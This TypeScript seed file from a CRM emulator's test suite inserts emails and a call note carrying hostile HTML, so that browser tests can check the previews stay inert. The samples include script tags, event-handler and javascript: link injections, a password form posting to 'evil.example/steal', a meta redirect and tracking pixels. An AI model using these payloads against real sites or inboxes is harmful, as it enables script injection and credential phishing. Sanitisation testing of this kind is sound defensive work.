// Hostile samples among the org's records: emails and a note whose bodies (and one subject) carry
// script, event handlers, javascript: links, forms, CSS tricks, SVG, frames and tracking pixels. The
// browser tests open their previews and prove none of it runs and nothing is fetched unasked.
import { deterministicGuid } from '../ids.ts';
import type { Store } from '../model.ts';
import { KNOWN } from '../seed-ids.ts';
import { insertRow } from '../store.ts';
import { USERS } from '../users.ts';

const L = '@Microsoft.Dynamics.CRM.lookuplogicalname';
/** A same-org address: a request to it shows in the request log, so tests can see it was (not) made. */
export const PIXEL = 'https://contoso.crm.dynamics.com/emulator/pixel';

export const HOSTILE_BODIES: Array<{ key: string; subject: string; body: string }> = [
  { key: 'script', subject: 'Quarterly report', body: '<p>See the figures.</p><script>window.top.__touchpointPwned = "script"</script>' },
  {
    key: 'onerror',
    subject: '<img src=x onerror="window.top.__touchpointPwned=1"> Invoice 4411',
    body: '<img src="x" onerror="window.top.__touchpointPwned = \'onerror\'"><p>Invoice attached.</p>',
  },
  {
    key: 'javascript-link',
    subject: 'Your account',
    body: '<p><a href="javascript:window.top.__touchpointPwned=\'link\'">Verify your account</a></p>',
  },
  {
    key: 'form',
    subject: 'Confirm your password',
    body: '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Confirm</button></form>',
  },
  {
    key: 'css',
    subject: 'Special offer',
    body: `<style>body { background: url(${PIXEL}?via=css) } .x { position: fixed; inset: 0; }</style><div class="x" style="background:url(${PIXEL}?via=inline-style)">Everything is an overlay</div>`,
  },
  {
    key: 'svg',
    subject: 'Logo update',
    body: '<svg onload="window.top.__touchpointPwned=\'svg\'"><script>window.top.__touchpointPwned=\'svg-script\'</script><circle r="5"/></svg>',
  },
  {
    key: 'frames',
    subject: 'Shared document',
    body: `<iframe src="${PIXEL}?via=iframe"></iframe><object data="${PIXEL}?via=object"></object><embed src="${PIXEL}?via=embed">`,
  },
  { key: 'meta', subject: 'Redirect', body: '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>Moved.</p>' },
  {
    key: 'pixel',
    subject: 'Newsletter (tracked)',
    body: `<p>Hello!</p><img src="${PIXEL}?via=img" width="1" height="1"><img srcset="${PIXEL}?via=srcset 1x">`,
  },
];

/** Name-based, in the version-4 shape the rest of the seed uses. */
function sampleId(name: string): string {
  const g = deterministicGuid(name);
  return `${g.slice(0, 14)}4${g.slice(15)}`;
}

export function hostileEmailId(key: string): string {
  return sampleId(`hostile-email:${key}`);
}

export const HOSTILE_NOTE_ID = sampleId('hostile-note');

/** Adds the samples to KNOWN.contact2's history, a week before `now`. */
export function seedHostileSamples(store: Store, now: number): void {
  const contact = KNOWN.contact2;
  const user = USERS.admin.systemuserid;
  HOSTILE_BODIES.forEach((sample, i) => {
    const id = hostileEmailId(sample.key);
    const at = new Date(now - (7 * 24 + i) * 3_600_000).toISOString().replace('.000Z', 'Z');
    insertRow(store, 'email', {
      activityid: id,
      subject: sample.subject,
      description: `<html><body><p>${sample.key}</p>${sample.body}</body></html>`,
      directioncode: false,
      statecode: 1,
      statuscode: 5,
      sender: 'james.reynolds@example.com',
      torecipients: 'dana.whitfield@contoso.example',
      createdon: at,
      modifiedon: at,
      actualend: at,
      senton: at,
      sortdate: at,
      _regardingobjectid_value: contact,
      [`_regardingobjectid_value${L}`]: 'contact',
      _ownerid_value: user,
      [`_ownerid_value${L}`]: 'systemuser',
      email_activity_parties: [
        {
          activitypartyid: sampleId(`hostile-party:${sample.key}:1`),
          participationtypemask: 1,
          _partyid_value: contact,
          [`_partyid_value${L}`]: 'contact',
          addressused: 'james.reynolds@example.com',
        },
        {
          activitypartyid: sampleId(`hostile-party:${sample.key}:2`),
          participationtypemask: 2,
          _partyid_value: user,
          [`_partyid_value${L}`]: 'systemuser',
        },
      ],
    });
  });
  const at = new Date(now - 8 * 24 * 3_600_000).toISOString().replace('.000Z', 'Z');
  insertRow(store, 'annotation', {
    annotationid: HOSTILE_NOTE_ID,
    subject: 'Call notes <script>window.top.__touchpointPwned="note"</script>',
    notetext:
      '<div onclick="window.top.__touchpointPwned=\'note\'">Customer asked about <b>pricing</b>.</div><img src=x onerror="window.top.__touchpointPwned=\'note-img\'">',
    isdocument: false,
    objecttypecode: 'contact',
    _objectid_value: contact,
    [`_objectid_value${L}`]: 'contact',
    createdon: at,
    modifiedon: at,
    _createdby_value: user,
    [`_createdby_value${L}`]: 'systemuser',
  });
}
